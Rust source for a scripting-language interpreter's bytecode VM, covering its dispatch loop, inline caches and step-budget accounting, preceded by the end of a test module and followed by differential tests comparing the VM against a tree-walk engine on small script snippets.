            "q = missing_global; out = 'unreached';",
            "o_undef.p = 1; out = 'unreached';",
            // Global inline caches inside eval-free nested closures, and
            // their forced by-name fallbacks (eval taint, catch scopes).
            "var g = 1; (function () { (function () { g += 2; g2 = g * 3; })(); })(); out = g + ':' + g2;",
            "var g = 1; (function () { eval('var g = 10;'); g += 2; out = g; })(); out += ':' + g;",
            "var g = 1; (function () { try { throw 7; } catch (g) { out = g; } out += ':' + g; })();",
            "(function () { out = '' + absent_global; })();",
            "(function () { fresh_global = 5; })(); out = fresh_global;",
            // NaN-boxing edge cases: NaN arithmetic, signed zero, and the
            // canonical-NaN comparison semantics the tagged word must keep.
            "out = '' + (0 / 0) + ((0 / 0) === (0 / 0)) + ((0 / 0) == (0 / 0));",
            "out = '' + (1 / -0) + (1 / 0) + (-0) + (0 === -0);",
            "var n = 0 / 0; out = '' + (n != n) + typeof n + (n + 1) + !n;",
            "out = '' + (1e308 * 10) + (-1e308 * 10) + (1e308 * 10 === 1 / 0);",
            // Boxed-word ownership shapes: strings duplicated by logical
            // operators, swapped, threaded through calls and ternaries.
            "out = ('' || 'fb') + ('keep' && 'next') + ('' + ('x' || 'y'));",
            "function id(s) { return s; } out = id('a') + id(id('b')) + ('c' ? id('d') : 'e');",
            "var s = 'seed'; s += s + s; out = s.length + s.substring(2, 6);",
            // Same-shape object families: the shape IC must serve every
            // receiver built by one insertion sequence, and transitions
            // must replay identically on both engines.
            "function mk(a, b) { var o = {}; o.x = a; o.y = b; return o; } \
             var s = 0; for (var i = 0; i < 8; i++) { s += mk(i, i * 2).x + mk(i, i).y; } out = s;",
            "var list = [{a: 1, b: 2}, {b: 3, a: 4}, {a: 5, b: 6}]; var s = ''; \
             for (var i = 0; i < 9; i++) { var o = list[i % 3]; s += o.a + ':' + o.b + ';'; } out = s;",
            "var o1 = {}; var o2 = {}; o1.k = 1; o2.j = 2; o1.j = 3; o2.k = 4; \
             out = '' + o1.k + o1.j + o2.j + o2.k;",
            // Frame recycling: IIFE towers, escaping closures interleaved
            // with non-escaping calls, and recursion that returns closures.
            "var t = 0; for (var i = 0; i < 6; i++) { t += (function () { return (function () { return (function () { return i; })(); })(); })(); } out = t;",
            "var fs = []; for (var i = 0; i < 4; i++) { (function (k) { fs.push(function () { return k * 10; }); })(i); (function () { var dead = i; })(); } \
             out = fs[0]() + fs[1]() + fs[2]() + fs[3]();",
            "function tower(n) { if (n == 0) { return function () { return 'base'; }; } var f = tower(n - 1); return function () { return n + ':' + f(); }; } \
             out = tower(3)();",
        ];
        for src in corpus {
            differential(src);
        }
    }

    #[test]
    fn budget_death_is_engine_identical() {
        let programs = [
            "var s = 0; for (var i = 0; i < 100; i++) { s += i; } out = s;",
            "var n = 0; while (n < 50) { n = n + 1; } out = n;",
            "function f(x) { return x < 2 ? x : f(x - 1) + f(x - 2); } out = f(10);",
            "var o = {x: 0}; var k = 0; do { o.x++; k++; } while (k < 20); out = o.x;",
            "var s = ''; for (var i = 0; i < 20; i++) { s += typeof miss; eval('s += i;'); } out = s;",
            // Fused-op budget parity: pre-charges on GetPropName/SetPropName,
            // IncName, and BinConst must die on the same step as the
            // tree-walk's per-node accounting.
            "var o = {v: 0}; for (var i = 0; i < 30; i++) { o.v += i % 7; o.v++; } out = o.v;",
            "x = 0; for (var i = 0; i < 30; i++) { x = o_missing.p + 1; } out = x;",
            // Shape-transition-heavy death: fresh objects growing inside
            // the loop keep the write ICs on their append path.
            "var s = 0; for (var i = 0; i < 25; i++) { var o = {}; o.a = i; o.b = i + 1; s += o.a + o.b; } out = s;",
        ];
        for src in programs {
            for max_steps in [0, 1, 2, 3, 5, 10, 50, 100, 1000] {
                differential_with(
                    src,
                    Limits {
                        max_steps,
                        max_depth: 50,
                    },
                );
            }
        }
    }

    #[test]
    fn break_leaking_through_a_call_is_redirected_like_the_tree_walk() {
        differential(
            "var n = 0; function leak() { break; } \
             for (var i = 0; i < 3; i++) { leak(); n = n + 1; } out = n + ':' + i;",
        );
        differential(
            "var n = 0; function skip() { continue; } \
             for (var i = 0; i < 3; i++) { skip(); n = n + 1; } out = n + ':' + i;",
        );
        differential(
            "var n = 0; function leak() { break; } \
             while (n < 5) { n++; try { leak(); } finally { n += 10; } } out = n;",
        );
    }

    #[test]
    fn top_level_return_through_try_matches() {
        differential("try { return 5; } finally { out = 2; }");
        differential("out = 1; return 'early'; out = 2;");
    }

    #[test]
    fn inline_caches_hit_on_repeated_property_and_global_access() {
        let mut i = Interpreter::new(NoHost, Limits::default(), 7);
        i.set_engine(ScriptEngine::Vm);
        i.run("var o = {x: 0}; for (var i = 0; i < 100; i++) { o.x = o.x + 1; } out = o.x;")
            .unwrap();
        let v = i.get_global("out").cloned().unwrap();
        assert_eq!(i.display_value(&v), "100");
        let (dispatches, hits, misses, shape_hits, _transitions) = i.vm_counters();
        assert!(dispatches > 0);
        assert!(
            hits > misses,
            "expected warm caches: hits={hits} misses={misses}"
        );
        assert!(shape_hits > 0, "property hits should be shape-certified");
    }

    #[test]
    fn shape_caches_serve_distinct_objects_of_the_same_layout() {
        // Each iteration builds a FRESH object; an identity-keyed cache
        // would miss every pass, a shape-keyed cache warms once for the
        // whole family — reads, overwrites, and the append transitions.
        let mut i = Interpreter::new(NoHost, Limits::default(), 7);
        i.set_engine(ScriptEngine::Vm);
        i.run(
            "function mk(v) { var o = {}; o.a = v; o.b = v * 2; return o; } \
             var s = 0; for (var i = 0; i < 64; i++) { var o = mk(i); o.a = o.a + o.b; s += o.a; } out = s;",
        )
        .unwrap();
        let (_, hits, misses, shape_hits, transitions) = i.vm_counters();
        assert!(
            shape_hits > misses,
            "same-layout receivers should hit the shape IC: shape_hits={shape_hits} misses={misses}"
        );
        assert!(
            transitions >= 128,
            "each fresh object performs two appends: transitions={transitions}"
        );
        assert!(hits >= shape_hits);
    }

    #[test]
    fn tree_walk_engine_keeps_vm_counters_at_zero() {
        let mut i = Interpreter::new(NoHost, Limits::default(), 7);
        i.set_engine(ScriptEngine::TreeWalk);
        i.run("var s = 0; for (var i = 0; i < 10; i++) { s += i; } out = s;")
            .unwrap();
        assert_eq!(i.vm_counters(), (0, 0, 0, 0, 0));
    }
}
