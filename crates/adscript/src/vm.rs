//! The bytecode VM: a stack machine over the tree-walk interpreter's
//! runtime.
//!
//! `run_chunk` executes one [`Chunk`] against the *same* environment chain,
//! heap, and host the tree-walk engine uses — the VM replaces only the
//! dispatch layer (AST recursion → a flat op loop), so every helper it
//! calls (`get_property`, `binop`, `call_function`, …) is the oracle's own
//! code. Three things are VM-specific:
//!
//! * **Inline caches.** Each chunk declares `ic_count` cache slots,
//!   materialized once per `(interpreter, chunk)` pair and shared by every
//!   activation — a hot function keeps its warm caches across calls instead
//!   of re-missing on each entry. Persistence needs no invalidation
//!   machinery: [`crate::heap::NameMap`] entries never move or disappear
//!   (stable indices), heap object ids are never reused, missing properties
//!   are never cached, and a property cache still identity-checks its
//!   receiver on every hit. Property caches remember `(object id, entry
//!   index)` for plain objects; global caches remember the root
//!   environment's entry index (sound because program chunks only ever
//!   execute in the root environment, whose static scope is empty).
//! * **Merged budget charges.** [`Op::Charge`] deducts the accumulated
//!   step count the tree-walk engine would have charged one-by-one;
//!   exhaustion pins the budget to zero exactly like the failing step.
//! * **Dynamic flow redirection.** A break/continue signal surfacing from a
//!   call or a tree-walked subtree is redirected to the innermost enclosing
//!   compiled-loop target recorded in [`Chunk::ranges`]; a return signal
//!   becomes the chunk's return value (the tree-walk's `run_body` /
//!   `call_function` do the same catch).

use crate::bytecode::{CVal, Chunk, Op, NO_IC};
use crate::interp::{to_i32, Flow, Host, Interpreter};
use crate::stdlib;
use crate::value::{ObjKind, Value};
use crate::ScriptError;
use std::cell::Cell;
use std::rc::Rc;
use std::sync::Arc;

/// Per-interpreter runtime state for one chunk: the materialized constant
/// pool and the persistent inline-cache slots, both shared by every
/// activation of the chunk. Keyed by chunk address in `vm_chunks`; the
/// keepalive `Arc` pins the address so a key can never be reused.
pub(crate) struct ChunkState {
    _keep: Arc<Chunk>,
    consts: Rc<[Value]>,
    ics: Rc<[Cell<Ic>]>,
}

/// One monomorphic inline-cache slot. Persistent: allocated once per
/// `(interpreter, chunk)` and shared across activations, so a hot function
/// stays warm call after call. Persistence is sound without invalidation —
/// map entries never move, object ids are never reused, misses are never
/// cached, and property hits re-check the receiver's identity.
#[derive(Debug, Clone, Copy)]
pub(crate) enum Ic {
    /// Never executed (or last shape was uncacheable).
    Empty,
    /// Plain-object property: `obj`'s property map holds the key at `idx`.
    Prop {
        /// The receiver this cache is specialized to.
        obj: crate::value::ObjId,
        /// Stable entry index of the property in the receiver's map.
        idx: u32,
    },
    /// Root-environment binding at this stable entry index.
    Global(u32),
}

/// Pops the operand stack. Compiled stack discipline guarantees the value
/// is present; underflow is a compiler bug, not a script error.
fn pop(stack: &mut Vec<Value>) -> Value {
    stack.pop().expect("vm stack underflow")
}

impl<H: Host> Interpreter<H> {
    /// Materializes a chunk's runtime state — the constant pool as runtime
    /// values (`Value::Str` is `Rc`-backed and thread-local, so the shared
    /// `Arc<str>` pool cannot be used directly) and the persistent
    /// inline-cache slots — once per interpreter. Keyed by chunk address;
    /// the keepalive `Arc` makes address reuse impossible.
    fn chunk_state(&mut self, chunk: &Arc<Chunk>) -> (Rc<[Value]>, Rc<[Cell<Ic>]>) {
        let key = Arc::as_ptr(chunk) as usize;
        if let Some(state) = self.vm_chunks.get(&key) {
            return (state.consts.clone(), state.ics.clone());
        }
        let consts: Rc<[Value]> = chunk
            .consts
            .iter()
            .map(|c| match c {
                CVal::Num(n) => Value::Num(*n),
                CVal::Str(s) => Value::Str(Rc::from(&**s)),
            })
            .collect();
        let ics: Rc<[Cell<Ic>]> = (0..chunk.ic_count).map(|_| Cell::new(Ic::Empty)).collect();
        self.vm_chunks.insert(
            key,
            ChunkState {
                _keep: chunk.clone(),
                consts: consts.clone(),
                ics: ics.clone(),
            },
        );
        (consts, ics)
    }

    /// Executes `chunk` in `env`. `Ok(None)` means the body ran to
    /// completion; `Ok(Some(v))` means an explicit `return` (from `Ret` or
    /// a return signal surfacing out of a tree-walked subtree) produced `v`.
    pub(crate) fn run_chunk(
        &mut self,
        chunk: &Arc<Chunk>,
        env: usize,
    ) -> Result<Option<Value>, Flow> {
        let (consts, ics) = self.chunk_state(chunk);
        // Operand stacks are pooled across activations: a call-heavy script
        // would otherwise pay one allocation per call frame.
        let mut stack = self
            .vm_stacks
            .pop()
            .unwrap_or_else(|| Vec::with_capacity(16));
        let result = self.run_ops(chunk, env, &consts, &ics, &mut stack);
        stack.clear();
        self.vm_stacks.push(stack);
        result
    }

    /// The dispatch loop proper, over the chunk's pooled frame state.
    fn run_ops(
        &mut self,
        chunk: &Arc<Chunk>,
        env: usize,
        consts: &[Value],
        ics: &[Cell<Ic>],
        stack: &mut Vec<Value>,
    ) -> Result<Option<Value>, Flow> {
        let mut ip = 0usize;
        // Dispatch counting stays in a register for the whole activation;
        // the interpreter-wide counter is settled once on exit.
        let mut dispatched: u64 = 0;
        let result = loop {
            if ip >= chunk.ops.len() {
                break Ok(None);
            }
            dispatched += 1;
            let at = ip as u32;
            let op = chunk.ops[ip];
            ip += 1;
            // Every success path `continue`s (or `break`s) directly out of
            // its arm; only the error signal falls through, so the hot path
            // never materializes an intermediate control-transfer value.
            let err: Flow = match op {
                Op::Charge(n) => match self.charge_steps(n) {
                    Ok(()) => continue,
                    Err(e) => e,
                },
                Op::Const(i) => {
                    stack.push(consts[i as usize].clone());
                    continue;
                }
                Op::True => {
                    stack.push(Value::Bool(true));
                    continue;
                }
                Op::False => {
                    stack.push(Value::Bool(false));
                    continue;
                }
                Op::Null => {
                    stack.push(Value::Null);
                    continue;
                }
                Op::Undef => {
                    stack.push(Value::Undefined);
                    continue;
                }
                Op::This => {
                    stack.push(self.try_lookup("this", env).unwrap_or(Value::Undefined));
                    continue;
                }
                Op::Pop => {
                    pop(stack);
                    continue;
                }
                Op::Dup => {
                    let v = stack.last().expect("vm stack underflow").clone();
                    stack.push(v);
                    continue;
                }
                Op::Swap => {
                    let n = stack.len();
                    stack.swap(n - 1, n - 2);
                    continue;
                }
                Op::Jump { t, pre } => match self.charge_steps(pre) {
                    Ok(()) => {
                        ip = t as usize;
                        continue;
                    }
                    Err(e) => e,
                },
                Op::JumpIfFalse { t, pre } => match self.charge_steps(pre) {
                    Ok(()) => {
                        if !pop(stack).truthy() {
                            ip = t as usize;
                        }
                        continue;
                    }
                    Err(e) => e,
                },
                Op::JumpIfTrue { t, pre } => match self.charge_steps(pre) {
                    Ok(()) => {
                        if pop(stack).truthy() {
                            ip = t as usize;
                        }
                        continue;
                    }
                    Err(e) => e,
                },
                Op::JumpTruthyKeep { t, pre } => match self.charge_steps(pre) {
                    Ok(()) => {
                        if stack.last().expect("vm stack underflow").truthy() {
                            ip = t as usize;
                        } else {
                            pop(stack);
                        }
                        continue;
                    }
                    Err(e) => e,
                },
                Op::JumpFalsyKeep { t, pre } => match self.charge_steps(pre) {
                    Ok(()) => {
                        if stack.last().expect("vm stack underflow").truthy() {
                            pop(stack);
                        } else {
                            ip = t as usize;
                        }
                        continue;
                    }
                    Err(e) => e,
                },
                Op::LoadLocal {
                    depth,
                    slot,
                    name,
                    pre,
                } => match self.charge_steps(pre).and_then(|()| {
                    if depth == 0 {
                        match self.envs[env].slots.get(slot as usize) {
                            Some(Some(v)) => Ok(v.clone()),
                            _ => self.read_local(&chunk.names[name as usize], 0, slot, env),
                        }
                    } else {
                        self.read_local(&chunk.names[name as usize], depth, slot, env)
                    }
                }) {
                    Ok(v) => {
                        stack.push(v);
                        continue;
                    }
                    Err(e) => e,
                },
                Op::StoreLocal {
                    depth,
                    slot,
                    name,
                    pre,
                } => match self.charge_steps(pre) {
                    Ok(()) => {
                        let v = pop(stack);
                        self.assign_local(&chunk.names[name as usize], depth, slot, v, env);
                        continue;
                    }
                    Err(e) => e,
                },
                Op::LoadName { name, ic, pre } => match self
                    .charge_steps(pre)
                    .and_then(|()| self.vm_load_name(chunk, ics, name, ic, env))
                {
                    Ok(v) => {
                        stack.push(v);
                        continue;
                    }
                    Err(e) => e,
                },
                Op::StoreName { name, ic, pre } => match self.charge_steps(pre) {
                    Ok(()) => {
                        let v = pop(stack);
                        self.vm_store_name(chunk, ics, name, ic, v, env);
                        continue;
                    }
                    Err(e) => e,
                },
                Op::GetPropName {
                    name,
                    name_ic,
                    prop,
                    prop_ic,
                    pre,
                } => match self.charge_steps(pre).and_then(|()| {
                    let obj = self.vm_load_name(chunk, ics, name, name_ic, env)?;
                    self.vm_prop_read(ics, &obj, &chunk.names[prop as usize], prop_ic)
                }) {
                    Ok(v) => {
                        stack.push(v);
                        continue;
                    }
                    Err(e) => e,
                },
                Op::SetPropName {
                    name,
                    name_ic,
                    prop,
                    prop_ic,
                    pre,
                } => match self.charge_steps(pre).and_then(|()| {
                    let obj = self.vm_load_name(chunk, ics, name, name_ic, env)?;
                    let value = pop(stack);
                    self.vm_write_prop(ics, obj, &chunk.names[prop as usize], prop_ic, value)
                }) {
                    Ok(()) => continue,
                    Err(e) => e,
                },
                Op::IncName {
                    name,
                    load_ic,
                    store_ic,
                    delta,
                    pre,
                } => match self.charge_steps(pre).and_then(|()| {
                    let old = self
                        .vm_load_name(chunk, ics, name, load_ic, env)?
                        .to_number();
                    let new = Value::Num(old + f64::from(delta));
                    self.vm_store_name(chunk, ics, name, store_ic, new, env);
                    Ok(())
                }) {
                    Ok(()) => continue,
                    Err(e) => e,
                },
                Op::DeclSlot(i) => {
                    let v = pop(stack);
                    self.envs[env].slots[i as usize] = Some(v);
                    continue;
                }
                Op::DeclName(i) => {
                    let v = pop(stack);
                    self.declare(env, &chunk.names[i as usize].clone(), v);
                    continue;
                }
                Op::DeclFn(i) => {
                    let def = chunk.fns[i as usize].clone();
                    let name = def.name.clone().expect("declaration has a name");
                    self.declare(env, &name, Value::Fn { def, env });
                    continue;
                }
                Op::Closure(i) => {
                    stack.push(Value::Fn {
                        def: chunk.fns[i as usize].clone(),
                        env,
                    });
                    continue;
                }
                Op::GetProp { name, ic, pre } => match self.charge_steps(pre).and_then(|()| {
                    let obj = pop(stack);
                    self.vm_prop_read(ics, &obj, &chunk.names[name as usize], ic)
                }) {
                    Ok(v) => {
                        stack.push(v);
                        continue;
                    }
                    Err(e) => e,
                },
                Op::SetProp { name, ic, pre } => match self.charge_steps(pre).and_then(|()| {
                    let obj = pop(stack);
                    let value = pop(stack);
                    self.vm_write_prop(ics, obj, &chunk.names[name as usize], ic, value)
                }) {
                    Ok(()) => continue,
                    Err(e) => e,
                },
                Op::GetIndex { pre } => match self.charge_steps(pre).and_then(|()| {
                    let idx = pop(stack);
                    let obj = pop(stack);
                    let key = self.value_to_key(&idx);
                    self.get_property(&obj, &key)
                }) {
                    Ok(v) => {
                        stack.push(v);
                        continue;
                    }
                    Err(e) => e,
                },
                Op::SetIndex { pre } => match self.charge_steps(pre).and_then(|()| {
                    let idx = pop(stack);
                    let obj = pop(stack);
                    let value = pop(stack);
                    let key = self.value_to_key(&idx);
                    self.set_property(&obj, &key, value)
                }) {
                    Ok(()) => continue,
                    Err(e) => e,
                },
                Op::MakeArray(n) => {
                    let elements = stack.split_off(stack.len() - n as usize);
                    stack.push(Value::Obj(self.heap.alloc_array(elements)));
                    continue;
                }
                Op::MakeObject => {
                    stack.push(Value::Obj(self.heap.alloc_object()));
                    continue;
                }
                Op::ObjInsert(i) => {
                    let v = pop(stack);
                    let id = match stack.last() {
                        Some(Value::Obj(id)) => *id,
                        _ => unreachable!("ObjInsert targets the literal under construction"),
                    };
                    self.heap
                        .get_mut(id)
                        .props
                        .insert(&*chunk.names[i as usize], v);
                    continue;
                }
                Op::GetMethod { name, ic, pre } => match self.charge_steps(pre).and_then(|()| {
                    let obj = pop(stack);
                    self.vm_prop_read(ics, &obj, &chunk.names[name as usize], ic)
                        .map(|f| (obj, f))
                }) {
                    Ok((obj, f)) => {
                        stack.push(obj);
                        stack.push(f);
                        continue;
                    }
                    Err(e) => e,
                },
                Op::GetMethodIndex { pre } => match self.charge_steps(pre).and_then(|()| {
                    let idx = pop(stack);
                    let obj = pop(stack);
                    let key = self.value_to_key(&idx);
                    self.get_property(&obj, &key).map(|f| (obj, f))
                }) {
                    Ok((obj, f)) => {
                        stack.push(obj);
                        stack.push(f);
                        continue;
                    }
                    Err(e) => e,
                },
                Op::Call { argc, pre } => match self
                    .charge_steps(pre)
                    .and_then(|()| self.vm_call(stack, argc, env))
                {
                    Ok(()) => continue,
                    Err(e) => e,
                },
                Op::CallMethod { argc, pre } => match self
                    .charge_steps(pre)
                    .and_then(|()| self.vm_call_method(stack, argc, env))
                {
                    Ok(()) => continue,
                    Err(e) => e,
                },
                Op::Bin(op) => {
                    let r = pop(stack);
                    let l = pop(stack);
                    match self.binop(op, l, r) {
                        Ok(v) => {
                            stack.push(v);
                            continue;
                        }
                        Err(e) => e,
                    }
                }
                Op::BinConst { op, idx } => {
                    let l = pop(stack);
                    match self.binop(op, l, consts[idx as usize].clone()) {
                        Ok(v) => {
                            stack.push(v);
                            continue;
                        }
                        Err(e) => e,
                    }
                }
                Op::UnNeg => {
                    let v = pop(stack);
                    stack.push(Value::Num(-v.to_number()));
                    continue;
                }
                Op::UnPos => {
                    let v = pop(stack);
                    stack.push(Value::Num(v.to_number()));
                    continue;
                }
                Op::UnNot => {
                    let v = pop(stack);
                    stack.push(Value::Bool(!v.truthy()));
                    continue;
                }
                Op::UnBitNot => {
                    let v = pop(stack);
                    stack.push(Value::Num(!(to_i32(v.to_number())) as f64));
                    continue;
                }
                Op::TypeofVal => {
                    let v = pop(stack);
                    stack.push(Value::str(v.type_of()));
                    continue;
                }
                Op::TypeofName(i) => match self.try_lookup(&chunk.names[i as usize], env) {
                    None => {
                        stack.push(Value::str("undefined"));
                        continue;
                    }
                    Some(v) => {
                        if self.steps_left == 0 {
                            Flow::Fatal(ScriptError::BudgetExhausted)
                        } else {
                            self.steps_left -= 1;
                            stack.push(Value::str(v.type_of()));
                            continue;
                        }
                    }
                },
                Op::IncDec { delta, prefix } => {
                    let old = pop(stack).to_number();
                    let new = old + f64::from(delta);
                    stack.push(Value::Num(if prefix { new } else { old }));
                    stack.push(Value::Num(new));
                    continue;
                }
                Op::Ret { pre } => match self.charge_steps(pre) {
                    Ok(()) => break Ok(Some(pop(stack))),
                    Err(e) => e,
                },
                Op::ThrowOp => Flow::Throw(pop(stack)),
                Op::FlowBreak => Flow::Break,
                Op::FlowContinue => Flow::Continue,
                Op::TreeStmt(i) => match self.exec(&chunk.tree_stmts[i as usize], env) {
                    Ok(()) => continue,
                    Err(e) => e,
                },
                Op::TreeExpr(i) => match self.eval(&chunk.tree_exprs[i as usize], env) {
                    Ok(v) => {
                        stack.push(v);
                        continue;
                    }
                    Err(e) => e,
                },
            };
            match err {
                // A break/continue surfacing here (from a compiled flow op,
                // out of a call, or out of a tree-walked subtree) lands at
                // the innermost enclosing compiled loop, exactly like the
                // tree-walk's loop arms catch it. Leftover expression
                // operands on the stack are dead weight, never misread:
                // every op addresses the stack relative to its top.
                Flow::Break => match chunk.loop_at(at) {
                    Some(range) => ip = range.brk as usize,
                    None => break Err(Flow::Break),
                },
                Flow::Continue => match chunk.loop_at(at) {
                    Some(range) => ip = range.cont as usize,
                    None => break Err(Flow::Continue),
                },
                // A return signal ends the chunk with a value — `run_body`
                // and `call_function` catch it the same way in the oracle.
                Flow::Return(v) => break Ok(Some(v)),
                other => break Err(other),
            }
        };
        self.dispatches += dispatched;
        result
    }

    /// Deducts `n` steps from the budget; on exhaustion the budget pins to
    /// zero and the run fails, exactly like the `n`-th sequential
    /// tree-walk `step()` would. `n == 0` (no folded charge) is a no-op.
    #[inline(always)]
    fn charge_steps(&mut self, n: u32) -> Result<(), Flow> {
        let n = u64::from(n);
        if self.steps_left >= n {
            self.steps_left -= n;
            Ok(())
        } else {
            self.steps_left = 0;
            Err(Flow::Fatal(ScriptError::BudgetExhausted))
        }
    }

    /// Identifier resolution with the global inline cache: the fast path of
    /// `LoadName` shared by the fused name+property ops.
    #[inline(always)]
    fn vm_load_name(
        &mut self,
        chunk: &Chunk,
        ics: &[Cell<Ic>],
        name: u32,
        ic: u32,
        env: usize,
    ) -> Result<Value, Flow> {
        if ic != NO_IC {
            if let Ic::Global(idx) = ics[ic as usize].get() {
                self.ic_hits += 1;
                return Ok(self.envs[0].extra.entry_at(idx).1.clone());
            }
            self.ic_misses += 1;
            let key: &str = &chunk.names[name as usize];
            return match self.envs[0].extra.get_full(key) {
                Some((idx, v)) => {
                    let v = v.clone();
                    ics[ic as usize].set(Ic::Global(idx));
                    Ok(v)
                }
                None => Err(Flow::Throw(Value::str(format!("{key} is not defined")))),
            };
        }
        self.lookup(&chunk.names[name as usize], env)
    }

    /// Identifier assignment with the global inline cache: the fast path of
    /// `StoreName` shared by the fused ops. Infallible, like the
    /// tree-walk's non-strict assignment.
    #[inline(always)]
    fn vm_store_name(
        &mut self,
        chunk: &Chunk,
        ics: &[Cell<Ic>],
        name: u32,
        ic: u32,
        v: Value,
        env: usize,
    ) {
        if ic != NO_IC {
            if let Ic::Global(idx) = ics[ic as usize].get() {
                self.ic_hits += 1;
                self.envs[0].extra.set_at(idx, v);
            } else {
                self.ic_misses += 1;
                let idx = self.envs[0]
                    .extra
                    .insert_full(&chunk.names[name as usize], v);
                ics[ic as usize].set(Ic::Global(idx));
            }
        } else {
            self.assign_by_name(&chunk.names[name as usize], v, env);
        }
    }

    /// Property read with a monomorphic inline cache. Cacheable shape:
    /// plain object, present property. Everything else falls back to the
    /// tree-walk's `get_property`.
    fn vm_prop_read(
        &mut self,
        ics: &[Cell<Ic>],
        obj: &Value,
        key: &str,
        ic: u32,
    ) -> Result<Value, Flow> {
        if ic != NO_IC {
            if let Value::Obj(id) = obj {
                let data = self.heap.get(*id);
                if matches!(data.kind, ObjKind::Plain) {
                    if let Ic::Prop { obj: cached, idx } = ics[ic as usize].get() {
                        if cached == *id {
                            self.ic_hits += 1;
                            return Ok(data.props.entry_at(idx).1.clone());
                        }
                    }
                    self.ic_misses += 1;
                    return Ok(match data.props.get_full(key) {
                        Some((idx, v)) => {
                            let v = v.clone();
                            ics[ic as usize].set(Ic::Prop { obj: *id, idx });
                            v
                        }
                        // Missing properties are never cached: a later
                        // insert would change the answer under the cache.
                        None => Value::Undefined,
                    });
                }
            }
        }
        self.get_property(obj, key)
    }

    /// Property write with a monomorphic inline cache; the caller supplies
    /// the receiver (popped, or resolved by the fused name form) and the
    /// value.
    fn vm_write_prop(
        &mut self,
        ics: &[Cell<Ic>],
        obj: Value,
        key: &str,
        ic: u32,
        value: Value,
    ) -> Result<(), Flow> {
        if ic != NO_IC {
            if let Value::Obj(id) = &obj {
                let id = *id;
                if matches!(self.heap.get(id).kind, ObjKind::Plain) {
                    if let Ic::Prop { obj: cached, idx } = ics[ic as usize].get() {
                        if cached == id {
                            self.ic_hits += 1;
                            self.heap.get_mut(id).props.set_at(idx, value);
                            return Ok(());
                        }
                    }
                    self.ic_misses += 1;
                    let idx = self.heap.get_mut(id).props.insert_full(key, value);
                    ics[ic as usize].set(Ic::Prop { obj: id, idx });
                    return Ok(());
                }
            }
        }
        self.set_property(&obj, key, value)
    }

    /// `Call(n)`: pops `n` arguments and the callee; pushes the result.
    fn vm_call(&mut self, stack: &mut Vec<Value>, argc: u32, env: usize) -> Result<(), Flow> {
        let args = stack.split_off(stack.len() - argc as usize);
        let f = pop(stack);
        let v = self.vm_dispatch_call(f, None, args, env)?;
        stack.push(v);
        Ok(())
    }

    /// `CallMethod(n)`: pops `n` arguments, the callee, and the receiver.
    /// String/number receivers become the synthetic first argument the
    /// stdlib dispatcher expects — same shape the tree-walk builds.
    fn vm_call_method(
        &mut self,
        stack: &mut Vec<Value>,
        argc: u32,
        env: usize,
    ) -> Result<(), Flow> {
        let mut args = stack.split_off(stack.len() - argc as usize);
        let f = pop(stack);
        let obj = pop(stack);
        let this = match &obj {
            Value::Obj(id) => Some(*id),
            _ => None,
        };
        match &obj {
            Value::Str(_) | Value::Num(_) => args.insert(0, obj),
            _ => {}
        }
        let v = self.vm_dispatch_call(f, this, args, env)?;
        stack.push(v);
        Ok(())
    }

    /// The call tail shared by `Call`/`CallMethod`: direct-`eval` detection
    /// (after argument evaluation, exactly like `eval_call`), then the
    /// tree-walk's `call_function`.
    fn vm_dispatch_call(
        &mut self,
        f: Value,
        this: Option<crate::value::ObjId>,
        args: Vec<Value>,
        env: usize,
    ) -> Result<Value, Flow> {
        if let Value::Native(sym) = &f {
            if *sym == stdlib::eval_sym() {
                let src = match args.first() {
                    Some(Value::Str(s)) => s.to_string(),
                    Some(other) => return Ok(other.clone()),
                    None => return Ok(Value::Undefined),
                };
                return self.eval_in_env(&src, env);
            }
        }
        self.call_function(f, this, args)
    }
}

#[cfg(test)]
mod tests {
    use crate::interp::{Interpreter, Limits, NoHost};
    use crate::value::Value;
    use crate::ScriptEngine;

    /// Runs `src` on one engine and captures every cross-engine observable:
    /// the run result (display string or error string), the `out` global,
    /// the remaining step budget, and the eval trace.
    fn observe(
        src: &str,
        engine: ScriptEngine,
        limits: Limits,
    ) -> (Result<String, String>, String, u64, Vec<String>) {
        let mut i = Interpreter::new(NoHost, limits, 7);
        i.set_engine(engine);
        let result = match i.run(src) {
            Ok(v) => Ok(i.display_value(&v)),
            Err(e) => Err(e.to_string()),
        };
        let out = i.get_global("out").cloned().unwrap_or(Value::Undefined);
        let out = i.display_value(&out);
        (result, out, i.steps_left(), i.eval_trace.clone())
    }

    fn differential_with(src: &str, limits: Limits) {
        let a = observe(src, ScriptEngine::TreeWalk, limits);
        let b = observe(src, ScriptEngine::Vm, limits);
        assert_eq!(a, b, "engines diverge on: {src}");
    }

    fn differential(src: &str) {
        differential_with(src, Limits::default());
    }

    #[test]
    fn engines_agree_on_a_broad_corpus() {
        let corpus = [
            "out = 1 + 2 * 3 - 4 / 2;",
            "out = 'a' + 1 + 2; out += '' + (1 + 2 + 'x');",
            "var a = 1; function f() { return a + 1; } out = f();",
            "function counter() { var n = 0; return function() { n = n + 1; return n; }; } \
             var c = counter(); c(); c(); out = c();",
            "function f() { if (true) { var x = 5; } return x; } out = f();",
            "function f() { leak = 42; } f(); out = leak;",
            "var s = 0; for (var i = 1; i <= 10; i++) { s += i; } out = s;",
            "var n = 0; while (n < 5) { n++; } var m = 10; do { m--; } while (m > 7); out = n + ':' + m;",
            "var s = 0; for (var i = 0; i < 10; i++) { if (i == 5) break; if (i % 2 == 0) continue; s += i; } out = s;",
            "var a = [1, 2, 3]; a.push(4); a[7] = 'x'; out = a.join('-') + a.length + a.pop();",
            "var o = {x: 1, y: 'two', n: {m: 3}}; o.z = o.x + o.n.m; out = o.z + o.y;",
            "out = '' + (1 == '1') + (1 === '1') + (null == undefined) + (0 == false);",
            "out = typeof 5 + ':' + typeof missing + ':' + typeof {} + ':' + typeof function(){};",
            "out = (1 > 0 ? 'yes' : 'no') + (null || 'fb') + ('a' && 'b') + (0 && explode());",
            "var i = 5; var a = [3]; a[0]++; out = '' + i++ + ++i + a[0] + (++a[0]);",
            "var log = ''; try { try { throw 'x'; } finally { log += 'f'; } } catch (e) { log += 'c:' + e; } out = log;",
            "try { missing.prop = 1; } catch (e) { out = 'recovered'; }",
            "function fib(n) { return n < 2 ? n : fib(n - 1) + fib(n - 2); } out = fib(12);",
            "var x = 1; eval('x = x + 41;'); out = x;",
            "eval(\"eval('out = 1 + 1;');\");",
            "out = f(); function f() { return 'hoisted'; }",
            "var o = {v: 7, get: function() { return this.v; }}; out = o.get();",
            "function f() { return arguments.length + ':' + arguments[1]; } out = f('a', 'b', 'c');",
